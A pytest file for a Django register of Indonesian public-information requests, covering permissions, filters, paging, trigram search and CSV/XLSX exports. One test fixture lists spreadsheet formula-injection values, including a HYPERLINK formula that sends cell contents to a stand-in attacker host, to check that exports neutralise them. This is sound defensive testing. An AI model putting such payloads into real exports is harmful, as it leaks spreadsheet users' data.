import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from ppid.roles import ROLE_LABELS
from requests.models import Channel, Decision, InformationRequest, Notice, Review
from requests.services.register_columns import register_columns_refresh
from tests.requests.factories import InformationRequestFactory
from tests.registry.factories import RequesterFactory

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    """Factories hash a password per user; a fast hasher keeps tests with many rows quick."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]

WIB = ZoneInfo("Asia/Jakarta")
REGISTER_ROLES = {"desk_officer", "classification_reviewer", "ppid", "atasan_ppid", "dispute_desk", "admin"}


def at(*args):
    return dt.datetime(*args, tzinfo=WIB)


@pytest.fixture
def register_client(client_for, office):
    return client_for("ppid", unit=office["main"])


@pytest.mark.parametrize("role", sorted(ROLE_LABELS))
def test_register_permission_matrix(client_for, role, office):
    for name in ("requests:register", "requests:register-csv", "requests:register-xlsx", "requests:register-pdf"):
        status = client_for(role).get(reverse(name)).status_code
        assert status == (200 if role in REGISTER_ROLES else 403), name


def test_register_sends_anonymous_visitors_to_login(client):
    response = client.get(reverse("requests:register"))
    assert response.status_code == 302 and reverse("login") in response["Location"]


def test_requester_cannot_open_the_register(client, office):
    requester = RequesterFactory()
    client.force_login(requester.user)
    assert client.get(reverse("requests:register")).status_code == 403


def refused_request(**kwargs):
    request = InformationRequestFactory(status=InformationRequest.Status.DECIDED, decision=Decision.REFUSED, is_held=True,
                                        copy_fee=0, **kwargs)
    officer = request.requester.user  # any user will do as the actor of these records
    Review.objects.create(request=request, outcome=Review.Outcome.EXEMPT, legal_basis="pasal_17", exemption_letter="h",
                          reviewer=officer)
    Notice.objects.create(request=request, kind=Notice.Kind.REFUSAL, number=f"N-{request.pk}", decision=Decision.REFUSED,
                          issued_by=officer, issued_at=at(2026, 11, 20, 10, 0), body="Mengungkap rahasia pribadi")
    register_columns_refresh([request.pk])  # what the review and notice services do when they record these
    return request


def test_register_shows_every_column(register_client):
    request = refused_request()
    page = register_client.get(reverse("requests:register")).content.decode()
    requester = request.requester
    for value in (request.register_number, requester.full_name, requester.address, requester.phone, requester.occupation,
                  request.information_wanted, request.purpose, "Dikuasai", "Softcopy", "Mendapatkan salinan", "Ditolak",
                  "Pasal 17 huruf h", "20-11-2026"):
        assert value in page, value
    for header in ("Nomor register", "Tanggal", "Nama pemohon", "Alamat", "Kontak", "Pekerjaan", "Informasi yang diminta",
                   "Tujuan penggunaan", "Dikuasai / tidak dikuasai", "Softcopy / hardcopy", "Melihat / mendapatkan salinan",
                   "Keputusan", "Alasan penolakan", "Tanggal pemberitahuan tertulis", "Biaya (Rp)"):
        assert header in page, header


def test_register_refusal_reason_is_translated_with_the_pasal_17_letter(office, make_user):
    from django.utils import translation

    from requests.selectors_register import RegisterFilters, register_refusal_reason, register_rows, register_typed_rows

    refused_request()
    user = make_user("ppid")
    with translation.override("id"):
        [row] = register_typed_rows(register_rows(filters=RegisterFilters(), user=user))
        assert register_refusal_reason(row) == "Pasal 17 huruf h UU 14/2008"
    with translation.override("en"):
        [row] = register_typed_rows(register_rows(filters=RegisterFilters(), user=user))
        assert register_refusal_reason(row) == "Article 17 letter h of Law 14/2008"


def test_incomplete_requests_are_not_in_the_register(register_client):
    waiting = InformationRequestFactory(register_number=None, status=InformationRequest.Status.INCOMPLETE, completed_at=None)
    page = register_client.get(reverse("requests:register")).content.decode()
    assert waiting.tracking_code not in page


def test_register_list_query_count_does_not_grow_with_rows(register_client):
    def queries_for_page():
        with CaptureQueriesContext(connection) as captured:
            response = register_client.get(reverse("requests:register"))
        assert response.status_code == 200
        return len(captured)

    for _ in range(5):
        refused_request()
    register_client.get(reverse("requests:register"))  # loads this process's snapshots (configuration, calendar)
    five = queries_for_page()
    for _ in range(45):
        refused_request()
    # The session, the user, their roles with their permissions, the page's rows, the stamps.
    assert queries_for_page() == five == 5


def test_register_filters(register_client, office):
    old = InformationRequestFactory(received_at=at(2026, 10, 5, 10, 0), information_wanted="Laporan lama")
    phone = InformationRequestFactory(received_at=at(2026, 11, 10, 10, 0), channel=Channel.PHONE, unit=office["health"],
                                      information_wanted="Data puskesmas")
    online = InformationRequestFactory(received_at=at(2026, 11, 11, 10, 0), information_wanted="Data sekolah")

    def numbers(**params):
        page = register_client.get(reverse("requests:register"), params).content.decode()
        return {r.register_number for r in (old, phone, online) if r.register_number in page}

    assert numbers(date_from="2026-11-01", date_to="2026-11-30") == {phone.register_number, online.register_number}
    assert numbers(channel="phone") == {phone.register_number}
    assert numbers(unit=office["health"].pk) == {phone.register_number}
    assert numbers(q="sekolah") == {online.register_number}
    assert numbers(q=phone.requester.full_name) == {phone.register_number}
    assert numbers(status="registered") == {old.register_number, phone.register_number, online.register_number}


def test_register_overdue_filter(register_client):
    overdue = InformationRequestFactory(received_at=timezone.now() - dt.timedelta(days=40))
    fresh = InformationRequestFactory()
    decided_late = InformationRequestFactory(received_at=timezone.now() - dt.timedelta(days=40),
                                             status=InformationRequest.Status.DECIDED)
    page = register_client.get(reverse("requests:register"), {"overdue": "on"}).content.decode()
    assert overdue.register_number in page
    assert fresh.register_number not in page and decided_late.register_number not in page


def test_register_pages_by_keyset_forward_and_back(register_client):
    made = [InformationRequestFactory(received_at=at(2026, 11, 2, 8, 0) + dt.timedelta(minutes=n)) for n in range(51)]
    newest_first = [r.register_number for r in reversed(made)]
    first = register_client.get(reverse("requests:register"))
    assert "51 permohonan" in first.content.decode()
    assert newest_first[0] in first.content.decode() and newest_first[50] not in first.content.decode()
    next_cursor = first.context["page"].next_cursor
    second = register_client.get(reverse("requests:register"), {"sesudah": next_cursor})
    assert newest_first[50] in second.content.decode() and newest_first[49] not in second.content.decode()
    back = register_client.get(reverse("requests:register"), {"sebelum": second.context["page"].previous_cursor})
    assert [line[1] for line in back.context["lines"]] == [line[1] for line in first.context["lines"]]


@pytest.mark.parametrize("cursor", ["x", "12-", "-3", "9" * 40 + "-1", "1-1\x00", "١٢-٣"])
def test_register_ignores_a_malformed_cursor(register_client, cursor):
    InformationRequestFactory()
    for key in ("sesudah", "sebelum"):
        assert register_client.get(reverse("requests:register"), {key: cursor}).status_code == 200


def test_register_caps_the_count_it_shows(register_client, monkeypatch):
    monkeypatch.setattr("requests.selectors_register.COUNT_LIMIT", 3)
    for _ in range(5):
        InformationRequestFactory()
    assert "Lebih dari 3 permohonan" in register_client.get(reverse("requests:register")).content.decode()


def csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_csv_export_has_the_columns_and_follows_the_filters(register_client):
    request = refused_request(channel=Channel.LETTER)
    InformationRequestFactory(channel=Channel.PHONE)
    response = register_client.get(reverse("requests:register-csv"), {"channel": "letter"})
    assert response["Content-Disposition"].startswith("attachment")
    rows = csv_rows(response)
    assert rows[0][0] == "Nomor register" and "Alasan penolakan" in rows[0]
    assert len(rows) == 2
    assert rows[1][0] == request.register_number
    assert "2026-11-20" in rows[1]


HOSTILE = ("=HYPERLINK(\"http://jahat.example/?x=\"&A1,\"klik\")", "+62-1+1", "-2+3", "@SUM(1+1)", "\tteks", "\rteks")


def hostile_request():
    requester = RequesterFactory(full_name=HOSTILE[0], address=HOSTILE[3], occupation=HOSTILE[4])
    return InformationRequestFactory(requester=requester, information_wanted=HOSTILE[1], purpose=HOSTILE[2], copy_fee=-5000)


def test_csv_export_neutralises_formulas_but_keeps_numbers(register_client):
    hostile_request()
    header, row = csv_rows(register_client.get(reverse("requests:register-csv")))
    cells = dict(zip(header, row))
    assert cells["Nama pemohon"] == "'" + HOSTILE[0]
    assert cells["Informasi yang diminta"] == "'" + HOSTILE[1]
    assert cells["Tujuan penggunaan"] == "'" + HOSTILE[2]
    assert cells["Alamat"] == "'" + HOSTILE[3]
    assert cells["Pekerjaan"] == "'" + HOSTILE[4]
    assert cells["Biaya (Rp)"] == "-5000"  # a number, not text to escape
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for key, value in cells.items() if key != "Biaya (Rp)")


def test_xlsx_export_stores_formulas_as_text_and_numbers_and_dates_typed(register_client, tmp_path):
    from requests.exports import register_xlsx_build

    hostile_request()
    path = tmp_path / "register.xlsx"
    with path.open("wb") as output:
        register_xlsx_build(owner=register_client.user, params={}, output=output, progress=lambda done, total: None)
    sheet = load_workbook(path).active
    header, row = list(sheet.iter_rows(values_only=True))
    cells = dict(zip(header, row))
    assert cells["Nama pemohon"] == "'" + HOSTILE[0]
    assert cells["Tujuan penggunaan"] == "'" + HOSTILE[2]
    assert cells["Biaya (Rp)"] == -5000
    assert isinstance(cells["Tanggal"], dt.datetime)
    formula_cells = [c.coordinate for line in load_workbook(path).active.iter_rows() for c in line if c.data_type == "f"]
    assert formula_cells == []


def test_xlsx_and_print_pages_ask_before_queueing(register_client):
    for name in ("requests:register-xlsx", "requests:register-pdf"):
        response = register_client.get(reverse(name), {"date_from": "2026-11-01", "date_to": "2026-11-30"})
        assert response.status_code == 200 and "Buat berkas" in response.content.decode()


def test_register_print_needs_a_period_and_respects_the_row_cap(register_client, monkeypatch):
    response = register_client.post(reverse("requests:register-pdf"))
    assert response.status_code == 302
    assert "pilih periode" in register_client.get(response["Location"]).content.decode()
    monkeypatch.setattr("requests.views.register.REGISTER_PRINT_MAX_ROWS", 2)
    for day in (3, 4, 5):
        InformationRequestFactory(received_at=at(2026, 11, day, 10, 0))
    query = "?date_from=2026-11-01&date_to=2026-11-30"
    response = register_client.post(reverse("requests:register-pdf") + query)
    assert response.status_code == 302
    assert "lebih dari 2 permohonan" in register_client.get(response["Location"]).content.decode()


def test_a_search_pages_forward_and_back_over_its_matches(register_client, monkeypatch):
    monkeypatch.setattr("requests.selectors_register.PAGE_SIZE", 2)
    requester = RequesterFactory(full_name="Warga Pencari Data")
    made = [InformationRequestFactory(requester=requester, received_at=at(2026, 11, 2, 8, 0) + dt.timedelta(minutes=n))
            for n in range(5)]
    InformationRequestFactory(information_wanted="Data pencari lain")  # matches the text, not the name
    newest_first = [r.register_number for r in reversed(made)]

    def numbers(response):
        return [row.values[0] for row in response.context["page"].rows]

    first = register_client.get(reverse("requests:register"), {"q": "pencari"})
    assert first.context["page"].count == 6
    second = register_client.get(reverse("requests:register"), {"q": "pencari", "sesudah": first.context["page"].next_cursor})
    assert numbers(second)[0] not in numbers(first)
    back = register_client.get(reverse("requests:register"), {"q": "pencari", "sebelum": second.context["page"].previous_cursor})
    assert numbers(back) == numbers(first)
    every = numbers(first) + numbers(second)
    assert [n for n in every if n in newest_first] == [n for n in newest_first if n in every]


def test_a_dense_search_pages_with_its_condition_and_says_more(register_client, monkeypatch):
    """A term matching more rows than the search pages in memory is paged along the order index."""
    monkeypatch.setattr("requests.selectors_register.PAGE_SIZE", 2)
    monkeypatch.setattr("requests.register_search.SEARCH_TEXT_LIMIT", 2)
    made = [InformationRequestFactory(information_wanted=f"Data anggaran bagian {n}", received_at=at(2026, 11, 2, 8, n))
            for n in range(5)]
    InformationRequestFactory(information_wanted="Peta wilayah", received_at=at(2026, 11, 2, 9, 0))
    newest_first = [r.register_number for r in reversed(made)]

    def numbers(response):
        return [row.values[0] for row in response.context["page"].rows]

    first = register_client.get(reverse("requests:register"), {"q": "anggaran"})
    assert numbers(first) == newest_first[:2]
    assert first.context["page"].count_is_capped and "Lebih dari 2 permohonan" in first.content.decode()
    second = register_client.get(reverse("requests:register"), {"q": "anggaran", "sesudah": first.context["page"].next_cursor})
    third = register_client.get(reverse("requests:register"), {"q": "anggaran", "sesudah": second.context["page"].next_cursor})
    assert numbers(second) + numbers(third) == newest_first[2:] and not third.context["page"].next_cursor
    back = register_client.get(reverse("requests:register"), {"q": "anggaran", "sebelum": third.context["page"].previous_cursor})
    assert numbers(back) == numbers(second)


@pytest.mark.parametrize("query", ["pencari", "Warga Pencari", "anggaran"])
def test_a_search_costs_the_same_statements_whatever_it_finds(register_client, monkeypatch, query):
    """Sparse (paged among its keys) or dense (along the order index), a search's page is one
    statement on PostgreSQL (and one before it for a phrase), whether it finds three rows or thirty."""
    monkeypatch.setattr("requests.register_search.SEARCH_TEXT_LIMIT", 10)
    requester = RequesterFactory(full_name="Warga Pencari Data")

    def add(count):
        for _ in range(count):
            InformationRequestFactory(requester=requester, information_wanted="Data anggaran")

    def queries_for_search():
        with CaptureQueriesContext(connection) as captured:
            response = register_client.get(reverse("requests:register"), {"q": query})
        assert response.status_code == 200 and response.context["page"].rows
        return len(captured)

    add(3)
    register_client.get(reverse("requests:register"))  # loads this process's snapshots (configuration, calendar)
    few = queries_for_search()
    add(27)
    # On PostgreSQL one statement more for a phrase: which of its words leads the index (none here, no statistics).
    expected = (6 if " " in query else 5) if connection.vendor == "postgresql" else None
    assert queries_for_search() == few == (expected or few)


@pytest.mark.postgres
def test_a_phrase_is_found_through_its_rare_word_once_the_trigrams_are_counted(register_client):
    """'nomor 4242': "nomor" is in most requests, so the trigram index reads the posting lists of
    nearly the whole table for it; with the nightly counts the index looks for "4242" alone and the
    phrase is checked on what it found. The matches are the same either way."""
    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL (set DATABASE_URL): pg_trgm's trigrams")
    from requests.register_search import rare_word, search_statistics_refresh, wanted_condition

    for n in range(12):
        InformationRequestFactory(information_wanted=f"Salinan dokumen nomor {100 + n}")
    target = InformationRequestFactory(information_wanted="Salinan dokumen Nomor 4242 tahun 2025")
    InformationRequestFactory(information_wanted="Surat nomor 14242")  # "4242" inside, the phrase not
    InformationRequestFactory(information_wanted="4242 nomor")

    def found(query):
        response = register_client.get(reverse("requests:register"), {"q": query})
        return [row.values[0] for row in response.context["page"].rows]

    assert rare_word("nomor 4242") is None  # nothing counted yet: the phrase leads the index
    before = found("nomor 4242")
    assert search_statistics_refresh() > 0
    assert rare_word("nomor 4242") == rare_word("NOMOR 4242") == "4242"
    assert found("nomor 4242") == before == [target.register_number]
    assert found("NOMOR 4242") == before
    sql = str(InformationRequest.objects.filter(wanted_condition("nomor 4242")).query)
    assert "COALESCE" in sql and "%4242%" in sql.upper()  # the phrase is checked, not looked up
    assert rare_word("salinan dokumen") is None  # two common words: the phrase leads, as before
    assert rare_word("4242 ab") is None  # a word of two letters cannot lead a LIKE on trigrams
    assert rare_word("4242") is None  # one word: nothing to choose
    # pg_trgm hashes trigrams that are not plain ASCII; "dé" has no run of three letters and would
    # read nothing from the index (a scan of the whole table), so it never leads.
    assert rare_word("nomor dé") is None and rare_word("nomor ß") is None


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_refreshes_of_the_trigram_counts_at_once_both_finish():
    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL (set DATABASE_URL): pg_trgm's trigrams")
    from requests.models import SearchTrigram
    from requests.register_search import search_statistics_refresh
    from tests.concurrency import run_at_once

    InformationRequestFactory(information_wanted="Salinan dokumen nomor 4242")
    counted = []
    errors = run_at_once(lambda: counted.append(search_statistics_refresh()), 2, timeout=30)
    assert not errors and counted[0] == counted[1] == SearchTrigram.objects.count() > 0


def test_the_trigram_counts_are_a_nightly_task_that_counts_nothing_on_sqlite():
    from ppid.celery import app
    from requests.tasks import search_statistics_refresh_task

    entries = {entry["task"]: entry for entry in app.conf.beat_schedule.values()}
    assert "requests.tasks.search_statistics_refresh_task" in entries
    counted = search_statistics_refresh_task.delay().get()
    assert (counted >= 0) if connection.vendor == "postgresql" else counted == 0


@pytest.mark.parametrize("params", [{}, {"q": "data"}, {"q": "data", "sesudah": "1-1"}])
def test_staff_who_see_no_request_get_an_empty_register(client_for, params):
    """A desk officer not yet placed in a unit sees no request: an empty page, not an error."""
    InformationRequestFactory(information_wanted="Data anggaran")
    response = client_for("desk_officer", unit=None).get(reverse("requests:register"), params)
    assert response.status_code == 200 and response.context["page"].rows == []
    assert "Tidak ada permohonan" in response.content.decode()


def test_a_dense_search_shows_a_request_found_by_its_requesters_name_alone(register_client, monkeypatch):
    monkeypatch.setattr("requests.register_search.SEARCH_TEXT_LIMIT", 1)
    for minute in range(3):
        InformationRequestFactory(information_wanted="Data Sutarmi lama", received_at=at(2026, 11, 2, 8, minute))
    by_name = InformationRequestFactory(requester=RequesterFactory(full_name="Ibu Sutarmi"), information_wanted="Peta desa",
                                        received_at=at(2026, 11, 2, 9, 0))
    page = register_client.get(reverse("requests:register"), {"q": "sutarmi"}).context["page"]
    assert page.rows[0].id == by_name.pk and len(page.rows) == 4 and page.count_is_capped


def test_a_request_found_by_its_text_and_its_requester_is_counted_and_shown_once(register_client):
    both = InformationRequestFactory(requester=RequesterFactory(full_name="Bapak Wiryo"), information_wanted="Surat Wiryo")
    InformationRequestFactory(information_wanted="Tanah Wiryo")
    page = register_client.get(reverse("requests:register"), {"q": "wiryo"}).context["page"]
    assert page.count == 2 and [row.id for row in page.rows].count(both.pk) == 1 and len(page.rows) == 2


def test_a_search_that_finds_nothing_says_so(register_client):
    InformationRequestFactory(information_wanted="Data anggaran")
    response = register_client.get(reverse("requests:register"), {"q": "tidak-ada-yang-cocok"})
    assert response.context["page"].rows == [] and response.context["page"].count == 0
    assert "Tidak ada permohonan" in response.content.decode()


def test_staff_who_see_no_request_get_a_csv_with_the_header_only(client_for):
    InformationRequestFactory(information_wanted="Data anggaran")
    rows = csv_rows(client_for("ppid", unit=None).get(reverse("requests:register-csv")))
    assert rows[0][0] == "Nomor register" and len(rows) == 1
